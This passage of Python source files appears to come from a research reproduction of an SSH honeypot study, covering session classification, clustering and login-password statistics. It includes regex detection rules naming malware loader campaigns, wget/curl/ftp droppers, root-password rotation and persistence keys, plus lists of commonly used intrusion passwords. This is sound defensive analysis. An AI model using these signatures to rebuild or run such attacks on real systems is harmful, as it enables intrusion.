teacher*: the rules stay the ground truth, the model is a cheap
approximation whose fidelity is continuously measured by
:func:`agreement_report` (and pinned in tests/test_regexrules.py).

Implementation notes — the container ships no scikit-learn, so both
stages are small, deterministic numpy:

* TF-IDF over word unigrams of the session command text, vocabulary
  capped by document frequency, smoothed idf (``ln((1+n)/(1+df)) + 1``),
  L2-normalized rows.
* Multinomial (softmax) regression trained by full-batch gradient
  descent from zero initialization — no sampling, no shuffling, so
  training is bit-deterministic for a given corpus.

Telemetry: ``fastpath.trained``, ``fastpath.classified``,
``fastpath.agreement`` (gauge, fraction agreeing with the rules).
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field

import numpy as np

from repro import telemetry
from repro.analysis.classify import DEFAULT_CLASSIFIER, CommandClassifier
from repro.honeypot.session import SessionRecord

#: Word-unigram token pattern for the featurizer (distinct from the
#: clustering tokenizer on purpose: classification wants words, not
#: shell-operator structure).
_WORD_PATTERN = re.compile(r"[A-Za-z0-9_\-./:<>+]+")

#: Vocabulary cap — the most document-frequent terms up to this many.
MAX_VOCABULARY = 2000

#: Training epochs / learning rate for the full-batch softmax GD.
TRAIN_EPOCHS = 300
LEARNING_RATE = 1.0


def _terms(text: str) -> list[str]:
    return _WORD_PATTERN.findall(text.lower())


@dataclass
class TfidfVocabulary:
    """Fitted vocabulary: term → column, with idf weights."""

    terms: list[str]
    idf: np.ndarray = field(repr=False)

    @property
    def index(self) -> dict[str, int]:
        cached = getattr(self, "_index", None)
        if cached is None:
            cached = {term: i for i, term in enumerate(self.terms)}
            object.__setattr__(self, "_index", cached)
        return cached


def fit_vocabulary(texts: list[str]) -> TfidfVocabulary:
    """Document-frequency-capped vocabulary with smoothed idf."""
    df: dict[str, int] = {}
    for text in texts:
        for term in set(_terms(text)):
            df[term] = df.get(term, 0) + 1
    # Deterministic cap: highest document frequency first, ties by term.
    ranked = sorted(df.items(), key=lambda item: (-item[1], item[0]))
    kept = [term for term, _ in ranked[:MAX_VOCABULARY]]
    kept.sort()
    n = len(texts)
    idf = np.array(
        [np.log((1 + n) / (1 + df[term])) + 1.0 for term in kept],
        dtype=np.float64,
    )
    return TfidfVocabulary(terms=kept, idf=idf)


def featurize(texts: list[str], vocabulary: TfidfVocabulary) -> np.ndarray:
    """L2-normalized TF-IDF matrix, one row per text."""
    index = vocabulary.index
    matrix = np.zeros((len(texts), len(vocabulary.terms)), dtype=np.float64)
    for row, text in enumerate(texts):
        for term in _terms(text):
            column = index.get(term)
            if column is not None:
                matrix[row, column] += 1.0
    matrix *= vocabulary.idf[np.newaxis, :]
    norms = np.linalg.norm(matrix, axis=1, keepdims=True)
    np.divide(matrix, norms, out=matrix, where=norms > 0)
    return matrix


def _train_softmax(
    features: np.ndarray, labels: np.ndarray, n_classes: int
) -> np.ndarray:
    """Full-batch softmax regression weights, (features+1) × classes."""
    n, d = features.shape
    x = np.hstack([features, np.ones((n, 1))])
    weights = np.zeros((d + 1, n_classes), dtype=np.float64)
    one_hot = np.zeros((n, n_classes), dtype=np.float64)
    one_hot[np.arange(n), labels] = 1.0
    for _ in range(TRAIN_EPOCHS):
        logits = x @ weights
        logits -= logits.max(axis=1, keepdims=True)
        np.exp(logits, out=logits)
        logits /= logits.sum(axis=1, keepdims=True)
        gradient = x.T @ (logits - one_hot) / n
        weights -= LEARNING_RATE * gradient
    return weights


@dataclass
class AgreementReport:
    """How often the fast path matches the regex teacher."""

    total: int
    agreeing: int
    disagreements: list[tuple[str, str, str]]  # (text, rules, fastpath)

    @property
    def agreement(self) -> float:
        return self.agreeing / self.total if self.total else 1.0

    def render(self, limit: int = 20) -> str:
        """Readable summary — dumped as the artifact on test failure."""
        lines = [
            f"fast-path agreement: {self.agreeing}/{self.total} "
            f"({self.agreement:.1%})",
        ]
        for text, expected, got in self.disagreements[:limit]:
            snippet = text if len(text) <= 100 else text[:97] + "..."
            lines.append(f"  rules={expected!r} fastpath={got!r}: {snippet}")
        hidden = len(self.disagreements) - limit
        if hidden > 0:
            lines.append(f"  ... and {hidden} more disagreements")
        return "\n".join(lines)


class FastPathClassifier:
    """Trained TF-IDF → softmax-regression session classifier.

    Build with :meth:`train`; ``classify_text`` / ``classify`` mirror
    :class:`~repro.analysis.classify.CommandClassifier` so the two are
    drop-in interchangeable at call sites.
    """

    def __init__(
        self,
        vocabulary: TfidfVocabulary,
        weights: np.ndarray,
        classes: list[str],
    ) -> None:
        self.vocabulary = vocabulary
        self.weights = weights
        self.classes = classes

    @classmethod
    def train(
        cls,
        sessions: list[SessionRecord],
        teacher: CommandClassifier = DEFAULT_CLASSIFIER,
    ) -> "FastPathClassifier":
        """Fit against the regex teacher's labels on these sessions."""
        with telemetry.span("fastpath.train"):
            texts = [session.command_text for session in sessions]
            teacher_labels = [teacher.classify_text(text) for text in texts]
            classes = sorted(set(teacher_labels))
            class_index = {name: i for i, name in enumerate(classes)}
            labels = np.array(
                [class_index[label] for label in teacher_labels],
                dtype=np.int64,
            )
            vocabulary = fit_vocabulary(texts)
            features = featurize(texts, vocabulary)
            weights = _train_softmax(features, labels, len(classes))
            telemetry.count("fastpath.trained")
            return cls(vocabulary, weights, classes)

    def classify_text(self, text: str) -> str:
        """Category of one command string (argmax class score)."""
        telemetry.count("fastpath.classified")
        features = featurize([text], self.vocabulary)
        logits = np.hstack([features, np.ones((1, 1))]) @ self.weights
        return self.classes[int(np.argmax(logits[0]))]

    def classify(self, session: SessionRecord) -> str:
        return self.classify_text(session.command_text)


def agreement_report(
    fastpath: FastPathClassifier,
    sessions: list[SessionRecord],
    teacher: CommandClassifier = DEFAULT_CLASSIFIER,
) -> AgreementReport:
    """Compare the fast path against the regex rules on real sessions."""
    with telemetry.span("fastpath.agreement"):
        disagreements: list[tuple[str, str, str]] = []
        agreeing = 0
        for session in sessions:
            text = session.command_text
            expected = teacher.classify_text(text)
            got = fastpath.classify_text(text)
            if expected == got:
                agreeing += 1
            else:
                disagreements.append((text, expected, got))
        report = AgreementReport(
            total=len(sessions),
            agreeing=agreeing,
            disagreements=disagreements,
        )
        telemetry.gauge("fastpath.agreement", report.agreement)
        return report
