"""Login-attempt analyses (paper section 8, Figures 10 and 11)."""

from __future__ import annotations

from collections import Counter, defaultdict
from dataclasses import dataclass

from repro.honeypot.session import SessionRecord
from repro.net.whois import HistoricalWhois
from repro.util.timeutils import epoch_date, month_key

#: The five passwords Figure 10 tracks.
FIGURE10_PASSWORDS = (
    "3245gs5662d34",
    "1234",
    "admin",
    "dreambox",
    "vertex25ektks123",
)


def successful_login_password(session: SessionRecord) -> str | None:
    """Password of the accepted login attempt, if any."""
    attempt = session.successful_login
    return attempt.password if attempt else None


def monthly_password_counts(
    sessions: list[SessionRecord],
) -> dict[str, Counter]:
    """Per month: intrusion sessions per successful password."""
    result: dict[str, Counter] = defaultdict(Counter)
    for session in sessions:
        password = successful_login_password(session)
        if password is None:
            continue
        result[month_key(epoch_date(session.start))][password] += 1
    return dict(result)


def top_passwords(sessions: list[SessionRecord], n: int = 5) -> list[tuple[str, int]]:
    """Overall top-n successful-login passwords."""
    totals: Counter = Counter()
    for session in sessions:
        password = successful_login_password(session)
        if password is not None:
            totals[password] += 1
    return totals.most_common(n)


@dataclass
class DefaultAccountStats:
    """Figure 11 statistics for one Cowrie default username."""

    username: str
    sessions: int
    successes: int
    unique_ips: int
    unique_ases: int
    silent_fraction: float        # successes with no commands at all
    monthly: dict[str, int]


def default_account_stats(
    sessions: list[SessionRecord],
    username: str,
    whois: HistoricalWhois,
) -> DefaultAccountStats:
    """Stats for sessions that tried the given default username."""
    matched = [
        s
        for s in sessions
        if any(attempt.username == username for attempt in s.logins)
    ]
    successes = [s for s in matched if s.login_succeeded]
    silent = [s for s in successes if not s.executed_commands]
    ips = {s.client_ip for s in matched}
    asns = set()
    for session in matched:
        result = whois.lookup(session.client_ip, epoch_date(session.start))
        if result is not None:
            asns.add(result.asn)
    monthly: Counter = Counter()
    for session in matched:
        monthly[month_key(epoch_date(session.start))] += 1
    return DefaultAccountStats(
        username=username,
        sessions=len(matched),
        successes=len(successes),
        unique_ips=len(ips),
        unique_ases=len(asns),
        silent_fraction=(len(silent) / len(successes)) if successes else 0.0,
        monthly=dict(monthly),
    )


def sessions_with_password(
    sessions: list[SessionRecord], password: str
) -> list[SessionRecord]:
    """Sessions whose accepted login used the given password."""
    return [
        s for s in sessions if successful_login_password(s) == password
    ]
