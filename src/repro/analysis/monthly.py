"""Time-bucketing helpers shared by the figure experiments."""

from __future__ import annotations

from collections import Counter, defaultdict
from datetime import date
from typing import Callable, Iterable

from repro.honeypot.session import SessionRecord
from repro.util.timeutils import epoch_date, month_key


def session_month(session: SessionRecord) -> str:
    return month_key(epoch_date(session.start))


def session_day(session: SessionRecord) -> date:
    return epoch_date(session.start)


def monthly_counts(sessions: Iterable[SessionRecord]) -> dict[str, int]:
    """Sessions per month key."""
    counts: Counter = Counter()
    for session in sessions:
        counts[session_month(session)] += 1
    return dict(counts)


def daily_counts(sessions: Iterable[SessionRecord]) -> dict[date, int]:
    counts: Counter = Counter()
    for session in sessions:
        counts[session_day(session)] += 1
    return dict(counts)


def monthly_groups(
    sessions: Iterable[SessionRecord],
    key: Callable[[SessionRecord], str],
) -> dict[str, Counter]:
    """month → Counter(key value → sessions)."""
    grouped: dict[str, Counter] = defaultdict(Counter)
    for session in sessions:
        grouped[session_month(session)][key(session)] += 1
    return dict(grouped)


def top_n_shares(
    per_month: dict[str, Counter], n: int
) -> dict[str, list[tuple[str, float]]]:
    """Per month: the top-n keys and their session share (Figure 2/3)."""
    shares: dict[str, list[tuple[str, float]]] = {}
    for month, counter in per_month.items():
        total = sum(counter.values())
        if total == 0:
            shares[month] = []
            continue
        shares[month] = [
            (name, count / total) for name, count in counter.most_common(n)
        ]
    return shares


def overall_shares(per_month: dict[str, Counter]) -> dict[str, float]:
    """Aggregate share of each key across all months."""
    totals: Counter = Counter()
    for counter in per_month.values():
        totals.update(counter)
    grand_total = sum(totals.values())
    if grand_total == 0:
        return {}
    return {name: count / grand_total for name, count in totals.items()}


def daily_box_stats(
    sessions: Iterable[SessionRecord],
) -> dict[str, dict[str, float]]:
    """Per month: min/q1/median/q3/max of the daily session counts.

    This is the data behind Figure 1's monthly boxplots.
    """
    per_day = daily_counts(sessions)
    per_month_days: dict[str, list[int]] = defaultdict(list)
    for day, count in per_day.items():
        per_month_days[month_key(day)].append(count)
    stats: dict[str, dict[str, float]] = {}
    for month, values in per_month_days.items():
        ordered = sorted(values)
        stats[month] = {
            "min": float(ordered[0]),
            "q1": _quantile(ordered, 0.25),
            "median": _quantile(ordered, 0.50),
            "q3": _quantile(ordered, 0.75),
            "max": float(ordered[-1]),
            "total": float(sum(ordered)),
            "days": float(len(ordered)),
        }
    return stats


def _quantile(ordered: list[int], q: float) -> float:
    if not ordered:
        return 0.0
    if len(ordered) == 1:
        return float(ordered[0])
    position = q * (len(ordered) - 1)
    low = int(position)
    high = min(low + 1, len(ordered) - 1)
    fraction = position - low
    return ordered[low] * (1 - fraction) + ordered[high] * fraction
