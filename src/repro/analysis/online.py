"""Incremental assign-or-spawn clustering over token sequences.

The batch pipeline (sample → full matrix → K-medoids) re-pays the whole
O(n²) DLD bill on every run, which rules it out for the streaming
service the ROADMAP targets.  This module is the O(candidates) core for
that service: sequences arrive one at a time, each is either *assigned*
to the nearest existing cluster medoid within a distance threshold or
*spawns* a new cluster with itself as medoid.

Cost per observation:

1. **Exact-duplicate fast path** — bot traffic is dominated by repeats;
   a dict lookup resolves them in O(1) with zero DPs.
2. **Candidate medoids** — above :attr:`OnlineClusterer.index_floor`
   clusters, the medoid set is LSH-indexed (same banding as the batch
   prefilter, :mod:`repro.analysis.sketch`) and only bucket-colliding
   medoids are compared; below the floor an exhaustive scan is cheaper
   than maintaining the index.
3. **Bound-gated DP** — each candidate is first screened with
   :func:`repro.analysis.sketch.combined_bounds`; the DP runs only when
   the lower bound leaves the threshold reachable.

Determinism: the clusterer is a pure function of the observation order
(no RNG).  Ties — several medoids at exactly the same distance — break
to the lowest cluster id, i.e. the earliest-spawned cluster.

Medoids are pinned to each cluster's founding sequence.  That keeps
every decision O(candidates) and order-deterministic; the price is that
a cluster's medoid is not re-centred as members accrete, so online
labels can diverge from a batch re-cluster of the same data.  The
differential suite (tests/test_cluster_differential.py) pins that
divergence with a pair-agreement (Rand index) floor against the batch
oracle.

Telemetry: ``online.observed``, ``online.exact_duplicates``,
``online.assigned``, ``online.spawned``, ``online.candidates``,
``online.bound_skips`` (see docs/observability.md).
"""

from __future__ import annotations

from collections import Counter
from dataclasses import dataclass, field

import numpy as np

from repro import telemetry
from repro.analysis.distance import pair_distance
from repro.analysis.sketch import (
    DEFAULT_SKETCH_CONFIG,
    MinHashSketcher,
    SketchConfig,
    combined_bounds,
)

#: Default assignment threshold on normalized DLD: "same behaviour,
#: small edits" (a third to a half of the tokens changed) lands in one
#: cluster, while distinct campaigns spawn fresh ones.
DEFAULT_ASSIGN_THRESHOLD = 0.45


@dataclass
class OnlineCluster:
    """One cluster's state: founding medoid, signature, membership."""

    cluster_id: int
    medoid: tuple[str, ...]
    signature: np.ndarray = field(repr=False)
    size: int = 0


class OnlineClusterer:
    """Assign-or-spawn clusterer with an LSH medoid index.

    Args:
        threshold: maximum normalized DLD to an existing medoid for
            assignment; beyond it the sequence spawns a new cluster.
        config: MinHash/LSH parameters for the medoid index (shared
            with the batch prefilter so the two paths agree on what
            "similar" means).
        index_floor: cluster count below which candidate selection is
            an exhaustive medoid scan instead of the LSH index.
    """

    def __init__(
        self,
        threshold: float = DEFAULT_ASSIGN_THRESHOLD,
        config: SketchConfig = DEFAULT_SKETCH_CONFIG,
        index_floor: int = 32,
    ) -> None:
        if not 0.0 < threshold <= 1.0:
            raise ValueError(f"threshold must be in (0, 1], got {threshold}")
        self.threshold = threshold
        self.config = config
        self.index_floor = index_floor
        self.clusters: list[OnlineCluster] = []
        self.assignments: list[int] = []
        self._sketcher = MinHashSketcher(config)
        self._duplicates: dict[tuple[str, ...], int] = {}
        # Per-band bucket → cluster ids, mirroring lsh_candidate_pairs.
        self._band_buckets: list[dict[bytes, list[int]]] = [
            {} for _ in range(config.bands)
        ]

    def _band_keys(self, signature: np.ndarray) -> list[bytes]:
        rows = self.config.rows
        return [
            np.ascontiguousarray(
                signature[band * rows : (band + 1) * rows]
            ).tobytes()
            for band in range(self.config.bands)
        ]

    def _candidate_ids(self, band_keys: list[bytes]) -> list[int]:
        if len(self.clusters) < self.index_floor:
            return list(range(len(self.clusters)))
        seen: set[int] = set()
        for band, key in enumerate(band_keys):
            seen.update(self._band_buckets[band].get(key, ()))
        return sorted(seen)

    def observe(self, tokens: tuple[str, ...] | list[str]) -> int:
        """Assign the sequence to a cluster (possibly a new one).

        Returns the cluster id; also appended to :attr:`assignments`.
        """
        key = tuple(tokens)
        telemetry.count("online.observed")
        duplicate = self._duplicates.get(key)
        if duplicate is not None:
            telemetry.count("online.exact_duplicates")
            self.clusters[duplicate].size += 1
            self.assignments.append(duplicate)
            return duplicate

        signature = self._sketcher.signature(key)
        band_keys = self._band_keys(signature)
        candidates = self._candidate_ids(band_keys)
        telemetry.count("online.candidates", len(candidates))
        best_id: int | None = None
        best_distance = self.threshold
        for cluster_id in candidates:
            medoid = self.clusters[cluster_id].medoid
            lower, upper = combined_bounds(key, medoid)
            if upper and lower / upper > best_distance:
                telemetry.count("online.bound_skips")
                continue
            distance = pair_distance(key, medoid)
            # strict < keeps ties on the earliest-seen cluster id
            if distance <= self.threshold and (
                best_id is None or distance < best_distance
            ):
                best_id = cluster_id
                best_distance = distance

        if best_id is None:
            best_id = self._spawn(key, signature, band_keys)
            telemetry.count("online.spawned")
        else:
            telemetry.count("online.assigned")
        self._duplicates[key] = best_id
        self.clusters[best_id].size += 1
        self.assignments.append(best_id)
        return best_id

    def _spawn(
        self,
        key: tuple[str, ...],
        signature: np.ndarray,
        band_keys: list[bytes],
    ) -> int:
        cluster_id = len(self.clusters)
        self.clusters.append(
            OnlineCluster(cluster_id=cluster_id, medoid=key, signature=signature)
        )
        for band, bucket_key in enumerate(band_keys):
            self._band_buckets[band].setdefault(bucket_key, []).append(
                cluster_id
            )
        return cluster_id

    def replay(
        self, sequences: list[tuple[str, ...]] | list[list[str]]
    ) -> list[int]:
        """Observe a whole stream in order; returns its assignments."""
        with telemetry.span("online.replay"):
            return [self.observe(seq) for seq in sequences]

    @property
    def labels(self) -> np.ndarray:
        """Assignments so far as an array (batch-comparison shape)."""
        return np.array(self.assignments, dtype=np.int64)


def pair_agreement(labels_a, labels_b) -> float:
    """Rand index between two labelings of the same points.

    The fraction of point *pairs* on which the labelings agree (both
    together or both apart) — the standard way to compare clusterings
    whose cluster ids have no correspondence.  Computed from the
    contingency table in O(n + cells), not O(n²) pairs.
    """
    a = np.asarray(labels_a)
    b = np.asarray(labels_b)
    if a.shape != b.shape:
        raise ValueError("labelings must cover the same points")
    n = int(a.size)
    if n < 2:
        return 1.0
    total = n * (n - 1) // 2
    joint = Counter(zip(a.tolist(), b.tolist()))
    sum_joint = sum(c * (c - 1) // 2 for c in joint.values())
    sum_a = sum(
        c * (c - 1) // 2 for c in Counter(a.tolist()).values()
    )
    sum_b = sum(
        c * (c - 1) // 2 for c in Counter(b.tolist()).values()
    )
    # together-in-both + apart-in-both, via inclusion-exclusion
    agree = total + 2 * sum_joint - sum_a - sum_b
    return agree / total
