"""K-medoids clustering over a precomputed distance matrix.

The paper describes "K-Means using the [DLD] scoring function" applied
to the pairwise distance matrix — operationally a K-medoids/PAM
procedure, since means are undefined for token sequences.  This is a
deterministic PAM-style implementation: k-means++-like seeding on the
distance matrix, then alternating assignment and medoid update until
stable.
"""

from __future__ import annotations

import random
from dataclasses import dataclass

import numpy as np


@dataclass
class ClusteringResult:
    """Labels, medoids and the objective for one k."""

    labels: np.ndarray          # cluster index per point
    medoids: list[int]          # point index of each cluster's medoid
    inertia: float              # within-cluster sum of squared distances

    @property
    def k(self) -> int:
        return len(self.medoids)

    def members(self, cluster: int) -> np.ndarray:
        return np.flatnonzero(self.labels == cluster)


def _seed_medoids(matrix: np.ndarray, k: int, rng: random.Random) -> list[int]:
    """k-means++-style seeding: spread initial medoids apart."""
    n = matrix.shape[0]
    first = rng.randrange(n)
    medoids = [first]
    closest = matrix[first].copy()
    while len(medoids) < k:
        weights = closest**2
        total = float(weights.sum())
        if total <= 0:
            remaining = [i for i in range(n) if i not in medoids]
            medoids.append(rng.choice(remaining))
            continue
        point = rng.random() * total
        cumulative = np.cumsum(weights)
        chosen = int(np.searchsorted(cumulative, point))
        chosen = min(chosen, n - 1)
        if chosen in medoids:
            chosen = int(np.argmax(closest))
        medoids.append(chosen)
        closest = np.minimum(closest, matrix[chosen])
    return medoids


def kmedoids(
    matrix: np.ndarray, k: int, seed: int = 0, max_iter: int = 50
) -> ClusteringResult:
    """Cluster ``n`` points given their ``n×n`` distance matrix."""
    n = matrix.shape[0]
    if matrix.shape != (n, n):
        raise ValueError("distance matrix must be square")
    if not 1 <= k <= n:
        raise ValueError(f"k={k} out of range for n={n}")
    rng = random.Random(seed)
    medoids = _seed_medoids(matrix, k, rng)
    labels = np.argmin(matrix[:, medoids], axis=1)
    for _ in range(max_iter):
        changed = False
        for cluster in range(k):
            members = np.flatnonzero(labels == cluster)
            if members.size == 0:
                continue
            sub = matrix[np.ix_(members, members)]
            best_local = int(np.argmin(sub.sum(axis=1)))
            candidate = int(members[best_local])
            if candidate != medoids[cluster]:
                medoids[cluster] = candidate
                changed = True
        new_labels = np.argmin(matrix[:, medoids], axis=1)
        if not changed and np.array_equal(new_labels, labels):
            break
        labels = new_labels
    distances = matrix[np.arange(n), np.array(medoids)[labels]]
    inertia = float((distances**2).sum())
    return ClusteringResult(labels=labels, medoids=medoids, inertia=inertia)


def silhouette_score(matrix: np.ndarray, labels: np.ndarray) -> float:
    """Mean silhouette coefficient from a distance matrix."""
    n = matrix.shape[0]
    unique = np.unique(labels)
    if unique.size < 2 or unique.size >= n:
        return 0.0
    scores = np.zeros(n)
    for i in range(n):
        own = labels[i]
        own_mask = labels == own
        own_count = int(own_mask.sum())
        if own_count <= 1:
            scores[i] = 0.0
            continue
        a = matrix[i, own_mask].sum() / (own_count - 1)
        b = np.inf
        for other in unique:
            if other == own:
                continue
            other_mask = labels == other
            b = min(b, float(matrix[i, other_mask].mean()))
        denominator = max(a, b)
        scores[i] = 0.0 if denominator == 0 else (b - a) / denominator
    return float(scores.mean())
