"""The 59-category command classification of Table 1.

58 regex rules plus the ``unknown`` fallback, evaluated in precedence
order against a session's concatenated command text (first match wins,
as in the paper's iterative construction: actor-specific signatures
first, then busybox patterns, then the generic ``gen_*``
file-introduction combinations keyed on wget/curl/ftp/echo).

Sanitization note (see DESIGN.md): the two slur-named categories from
the paper are reproduced as ``fslur_attack`` / ``gslur_echo`` with
placeholder trigger tokens, preserving the matching structure without
reproducing hate speech.
"""

from __future__ import annotations

import re
from dataclasses import dataclass

#: Name of the fallback category.
UNKNOWN_CATEGORY = "unknown"


@dataclass(frozen=True)
class CategoryRule:
    """One behavioural signature."""

    name: str
    pattern: re.Pattern
    description: str

    def matches(self, text: str) -> bool:
        return self.pattern.search(text) is not None


def _rule(name: str, pattern: str, description: str) -> CategoryRule:
    # Lookahead-combination rules are anchored at the start of the text:
    # the (?=.*X) scans cover the whole string from position 0, and the
    # anchor keeps re.search from re-trying the lookaheads at every
    # offset (which is quadratic on long sessions).
    if pattern.startswith("(?="):
        pattern = r"\A" + pattern
    return CategoryRule(name, re.compile(pattern, re.DOTALL), description)


#: Ordered rule table (first match wins).
RULES: tuple[CategoryRule, ...] = (
    # --- actor-specific signatures -----------------------------------
    _rule("mdrfckr", r"mdrfckr",
          "Outlaw-linked persistence key install (section 9)"),
    _rule("curl_maxred", r"max-redir",
          "curl proxy-abuse campaign with --max-redirs"),
    _rule("rapperbot", r"ssh-rsa\s+AAAAB3NzaC1yc2EAAAADAQABA",
          "RapperBot persistence key prefix"),
    _rule("fslur_attack", r"fslurtoken",
          "slur-named campaign (sanitized token)"),
    _rule("gslur_echo", r"gslurtoken",
          "slur-named echo campaign (sanitized token)"),
    _rule("ohshit_attack", r"ohshit", "ohshit loader campaign"),
    _rule("onions_attack", r"onions1337", "onions1337 loader campaign"),
    _rule("sora_attack", r"sora", "Sora (Mirai variant) loader"),
    _rule("heisen_attack", r"Heisenberg", "Heisenberg loader campaign"),
    _rule("zeus_attack", r"Zeus", "Zeus loader campaign"),
    _rule("update_attack", r"update\.sh", "update.sh dropper"),
    _rule("lenni_0451", r"lenni0451", "lenni0451 write-and-check probe"),
    _rule("juicessh", r"juicessh", "JuiceSSH client fingerprint"),
    _rule("clamav", r"\bclamav\b", "clamav-themed cron staging"),
    _rule("passwd123_daemon", r"(?=.*Password123)(?=.*daemon)",
          "daemon:Password123 credential rotation + dropper"),
    _rule("wget_dget", r"(?=.*wget\s+-4)(?=.*dget\s+-4)",
          "wget -4 / dget -4 double fetch"),
    _rule("openssl_passwd", r"openssl passwd -1 \S{8}",
          "openssl-hashed credential rotation"),
    _rule("perl_dred_miner", r"(?=.*perl)(?=.*dred)",
          "perl 'dred' miner staging"),
    _rule("stx_miner", r"(?=.*stx)(?=.*LC_ALL)", "stx miner staging"),
    _rule("export_vei", r"export VEI", "VEI environment marker"),
    _rule("cloud_print", r"cloud\s+print", "cloud-print probe"),
    _rule("binx86", r"(?=.*CPU\(s\):)(?=.*bin\.x86_64)",
          "CPU fingerprint + bin.x86_64 marker"),
    _rule("root_17_char_pwd", r"root:[A-Za-z0-9]{15,}\"?\s*\|\s*chpasswd",
          "long-random root password rotation"),
    _rule("root_12_char_echo321",
          r"(?=.*root:[A-Za-z0-9]{12}\")(?=.*echo 321)",
          "12-char root rotation + echo 321 marker"),
    _rule("root_12_char_capscout",
          r"(?=.*root:[A-Za-z0-9]{12}\")"
          r"(?=.*awk\s+'\{print\s+\$4,\$5,\$6,\$7,\$8,\$9;\}')",
          "12-char root rotation + CPU scouting awk"),
    # --- scouting signatures -----------------------------------------
    _rule("ak47_scout", r"(?=.*\\x41\\x4b\\x34\\x37)(?=.*writable)",
          "AK47 hex marker + writability probe"),
    _rule("echo_ssh_check", r"SSH check", "echo 'SSH check' liveness probe"),
    _rule("echo_os_check",
          r"\becho\b\s+[0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-"
          r"[0-9a-fA-F]{4}-[0-9a-fA-F]{12}",
          "UUID echo consistency probe"),
    _rule("echo_ok", r"\\x6F\\x6B", "hex-escaped 'ok' liveness probe"),
    _rule("echo_ok_txt", r"echo ok", "plain 'echo ok' liveness probe"),
    _rule("shell_fp", r"(?=.*\$SHELL)(?=.*bs=22)",
          "$SHELL + dd bs=22 shell fingerprint"),
    _rule("uname_a_nproc", r"(?=.*nproc)(?=.*\buname\s+-a\b)",
          "uname -a with core count"),
    _rule("uname_snri_nproc",
          r"(?=.*nproc)(?=.*\buname\s+-s\s+-n\s+-r\s+-i\b)",
          "uname -s -n -r -i with core count"),
    _rule("uname_svnrm", r"uname\s+-s\s+-v\s+-n\s+-r\s+-m",
          "five-field uname fingerprint"),
    _rule("uname_svnr_model",
          r"(?=.*uname\s+-s\s+-v\s+-n\s+-r\b)(?=.*model name)",
          "four-field uname + CPU model"),
    _rule("uname_svnr", r"uname\s+-s\s+-v\s+-n\s+-r\b",
          "four-field uname fingerprint"),
    _rule("uname_a", r"\buname\s+-a\b", "plain uname -a"),
    # --- busybox signatures ------------------------------------------
    _rule("bbox_scout_cat",
          r"/bin/busybox\s+cat\s+/proc/self/exe\s*\|\|\s*cat\s+/proc/self/exe",
          "busybox self-cat architecture probe"),
    _rule("bbox_loaderwget", r"loader\.wget", "loader.wget stager"),
    _rule("bbox_echo_elf", r"(?=.*busybox)(?=.*\\x45\\x4c\\x46)",
          "busybox + echoed ELF magic"),
    _rule("bbox_rand_exec", r"(?=.*busybox)(?=.*urandom)",
          "busybox random-file consistency probe"),
    _rule("bbox_5_char_v2",
          r"(?=.*/bin/busybox\s+[A-Z0-9]{5}\b)(?=.*(tftp|wget))",
          "five-char busybox applet check + tftp/wget loader"),
    _rule("rm_obf_pattern_1", r"(?=.*rm\s+-rf\s+\*;\s*cd\s+/tmp)(?=.*x0x0x0)",
          "rm-obfuscated loader with x0x0x0 marker"),
    _rule("rm_obf_pattern_7",
          r"cd\s+/tmp;rm\s+-rf\s+/tmp/\*\s*\|\|\s*cd\s+/var/run",
          "cascading cd/rm loader preamble"),
    _rule("bbox_unlabelled", r"(?:/bin/)?busybox\s",
          "other busybox-driven sessions"),
    # --- generic file-introduction combinations ----------------------
    _rule("gen_curl_echo_ftp_wget",
          r"(?=.*curl)(?=.*echo)(?=.*ftp)(?=.*wget)",
          "loader using curl+echo+ftp+wget"),
    _rule("gen_curl_ftp_wget", r"(?=.*curl)(?=.*ftp)(?=.*wget)",
          "loader using curl+ftp+wget"),
    _rule("gen_curl_echo_wget", r"(?=.*curl)(?=.*echo)(?=.*wget)",
          "loader using curl+echo+wget"),
    _rule("gen_echo_ftp_wget", r"(?=.*echo)(?=.*ftp)(?=.*wget)",
          "loader using echo+ftp+wget"),
    _rule("gen_curl_wget", r"(?=.*curl)(?=.*wget)", "loader using curl+wget"),
    _rule("gen_curl_echo", r"(?=.*curl)(?=.*echo)", "loader using curl+echo"),
    _rule("gen_echo_wget", r"(?=.*echo)(?=.*wget)", "loader using echo+wget"),
    _rule("gen_ftp_wget", r"(?=.*ftp)(?=.*wget)", "loader using ftp+wget"),
    _rule("gen_echo_ftp", r"(?=.*echo)(?=.*ftp)", "loader using echo+ftp"),
    _rule("gen_curl", r"(?=.*curl)", "loader using curl"),
    _rule("gen_wget", r"(?=.*wget)", "loader using wget"),
    _rule("gen_ftp", r"(?=.*ftp)", "loader using ftp"),
    _rule("gen_echo", r"(?=.*echo)", "loader using echo"),
)

#: All category names, including the fallback, in table order.
CATEGORY_NAMES: tuple[str, ...] = tuple(r.name for r in RULES) + (
    UNKNOWN_CATEGORY,
)


def rule_by_name(name: str) -> CategoryRule:
    for rule in RULES:
        if rule.name == name:
            return rule
    raise KeyError(name)
