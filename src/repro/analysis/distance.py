"""Pairwise distance matrices over tokenized sessions."""

from __future__ import annotations

import random

import numpy as np

from repro.analysis.dld import normalized_dld
from repro.analysis.tokenizer import normalize_tokens, tokenize_session
from repro.honeypot.session import SessionRecord


#: Cap on tokens per session fed to the O(len²) distance computation.
#: Keeps pathological sessions (e.g. hundred-command proxy abuse) from
#: dominating runtime while preserving their behavioural prefix.
MAX_TOKENS_PER_SESSION = 120


def session_tokens(
    sessions: list[SessionRecord], max_tokens: int = MAX_TOKENS_PER_SESSION
) -> list[list[str]]:
    """Normalized (and length-capped) token sequences, one per session."""
    return [
        normalize_tokens(tokenize_session(s))[:max_tokens] for s in sessions
    ]


def distance_matrix(token_sequences: list[list[str]]) -> np.ndarray:
    """Symmetric normalized-DLD matrix (zeros on the diagonal).

    Identical token sequences are deduplicated internally so the O(n²)
    DLD work only runs once per distinct behaviour — bot traffic is
    heavily repetitive, which makes this the difference between seconds
    and hours at realistic sample sizes.
    """
    n = len(token_sequences)
    keys = [tuple(seq) for seq in token_sequences]
    distinct: list[tuple[str, ...]] = []
    index_of: dict[tuple[str, ...], int] = {}
    for key in keys:
        if key not in index_of:
            index_of[key] = len(distinct)
            distinct.append(key)
    m = len(distinct)
    compact = np.zeros((m, m), dtype=np.float64)
    for i in range(m):
        for j in range(i + 1, m):
            value = normalized_dld(distinct[i], distinct[j])
            compact[i, j] = value
            compact[j, i] = value
    mapping = np.array([index_of[key] for key in keys])
    return compact[np.ix_(mapping, mapping)]


def sample_sessions(
